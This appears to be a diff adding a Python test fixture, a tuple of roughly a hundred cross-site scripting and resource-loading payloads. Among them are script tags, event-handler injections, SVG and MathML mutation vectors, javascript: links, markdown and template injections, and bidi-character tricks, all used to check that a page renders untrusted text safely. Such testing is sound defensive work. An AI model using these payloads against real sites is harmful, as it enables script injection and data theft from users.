@@ -1,0 +1,123 @@
+"""A hundred strings that a page might take for more than words: text, title, file name, question, a model's answer.
+
+Whatever of them runs says alert, whatever loads asks example.org: a test that listens for both hears of it.
+"""
+
+_RUNNING = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://example.org/x.js></SCRIPT>",
+    "<script type=module>import('https://example.org/x.js')</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\n>alert(1)</script\t>",
+    "<script/x>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</noscript><script>alert(1)</script>",
+    "</template><script>alert(1)</script>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--<img src=x--><![CDATA[<script>alert(1)</script>]]>",
+    "<!--><script>alert(1)</script>-->",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<plaintext><script>alert(1)</script>",
+)
+_HANDLERS = (
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=x OnErRoR=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x onerror=&#97;lert(1)>",
+    "<img src='x'onerror='alert(1)'>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video src=x onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)></audio>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<div onpointerover=alert(1) style='position:fixed;inset:0'>x</div>",
+    "<p onanimationstart=alert(1) style='animation:x'>x</p>",
+    "<button onclick=alert(1) autofocus popovertarget=x>x</button>",
+    "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)" x="',
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "` onfocus=alert(1) autofocus `",
+    'x" tabindex=0 onfocus=alert(1) autofocus y="',
+)
+_VECTORS = (
+    "<svg onload=alert(1)><circle/></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
+    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
+)
+_LINKS = (
+    '<a href="javascript:alert(1)">x</a>',
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href=' &#14; javascript:alert(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='vbscript:alert(1)'>x</a>",
+    "<a href=//example.org ping=//example.org>x</a>",
+    "<form action='javascript:alert(1)'><button>x</button></form>",
+    "<button formaction='javascript:alert(1)'>x</button>",
+    "<area href='javascript:alert(1)'>",
+    "javascript:alert(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "<base href='https://example.org/'>",
+    "<meta http-equiv=refresh content='0;url=https://example.org'>",
+    "<link rel=stylesheet href=https://example.org/x.css>",
+    "<link rel=prefetch href=https://example.org/x>",
+)
+_LOADING = (
+    "<img src=https://example.org/x.png>",
+    "<img srcset='https://example.org/x.png 1x'>",
+    "<picture><source srcset=https://example.org/x.png><img></picture>",
+    "</mark></p></article></div><iframe src=https://example.org></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=https://example.org/x></object>",
+    "<embed src=https://example.org/x>",
+    "<video poster=https://example.org/x.png></video>",
+    "<div style='background:url(https://example.org/x.png)'>x</div>",
+    "<style>*{display:none}@import'https://example.org/x.css';</style>",
+    "<table background=https://example.org/x.png><td>x</table>",
+    "<input type=image src=https://example.org/x.png>",
+)
+_MARKDOWN = (
+    "![x](https://example.org/x.png) [y](javascript:alert(1))",
+    "[x]: https://example.org/x 'y'",
+    "![x][y]\n[y]: https://example.org/x.png",
+    "<https://example.org/x>",
+    "[![x](https://example.org/x.png)](https://example.org)",
+    "`<img src=x onerror=alert(1)>`",
+    "```html\n<script>alert(1)</script>\n```",
+    "| <img src=x onerror=alert(1)> | x |\n|---|---|\n| <script>alert(1)</script> | x |",
+    "# <img src=x onerror=alert(1)>",
+    "- <svg onload=alert(1)>\n- x",
+)
+_PAGE = (
+    "<div class=citation data-cite=t1c1><button data-cite='t1c1'>1</button>",
+    "<button data-act=edit data-open=x>x</button>",
+    "<mark data-cited='t1c1'>x</mark>",
+    "<div id=conversation></div><div id=reader></div>",
+    "${alert(1)} {{constructor}} `${1}`",
+    "{{#each value}}<img src=x onerror=alert(1)>{{/each}}",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
+    "&#x3c;img src=x onerror=alert(1)&#x3e;",
+)
+_LETTERS = (
+    "\u202egnp.exe\u202c \u2067<b>\u2069",
+    "\u2066\u2066\u2066\u202e)1(trela",
+    "nul \x00 half \ud800 tag <b",
+    "\u2028alert(1)\u2029",
+)
+
+HOSTILE = (*_RUNNING, *_HANDLERS, *_VECTORS, *_LINKS, *_LOADING, *_MARKDOWN, *_PAGE, *_LETTERS)
